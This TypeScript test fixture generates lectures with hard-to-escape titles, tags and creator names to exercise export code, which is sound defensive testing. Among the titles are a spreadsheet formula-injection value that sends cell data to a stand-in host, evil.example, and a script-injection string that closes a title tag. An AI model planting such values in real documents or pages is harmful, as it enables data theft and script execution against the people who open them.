import type { Lecture } from "../../../lib/lecture/lecture.ts";
import { lectureNumber } from "./samples.ts";

/** Titles that break files that are written without care. */
const HOSTILE_TITLES: readonly string[] = [
  'He said "no", {then} left',
  "a, b; c: d | e = f",
  '=HYPERLINK("http://evil.example?"&A1)',
  "+1 -1 @SUM",
  "-dash first",
  "@home",
  "emoji 👩‍🏫 and 🏳️‍🌈",
  "محاضرة عن البحر (2)",
  "הרצאה על הים",
  "这是一个特别长的中文标题".repeat(8),
  "back\\slash \\n \\begin{x} $5 100% a_b a^b ~ # &",
  "--- front: matter",
  "[[note]] %% <% %> `code` *bold* _it_",
  "</title><script>hit()</script>",
  "ER - TY - JOUR",
  "'quoted' and ''twice''",
  "ends with a dot.",
  "CON",
  "a/b\\c:d*e?f",
  "null",
  "true",
  "2024-01-01",
  "1e3",
  "é ü ß ø ł ğ",
];

export const LONG_TAG = "四十个汉字的标签".repeat(5);

/** One lecture for each, with tags and creators that are no easier. */
export function hostileLectures(): Lecture[] {
  return HOSTILE_TITLES.map((title, number) => ({
    ...lectureNumber(number),
    title,
    creators: ["O'Brien, Ñandú", "张伟", `Team "${number}" & {Co}`],
    tags: [LONG_TAG, "C++", "=tag", `t${number}`, 'say "hi"'],
    series: { title: `Course: "${title}"`.slice(0, 60).trim() },
    savedAt: "2026-03-04T05:06:07.000Z",
  }));
}
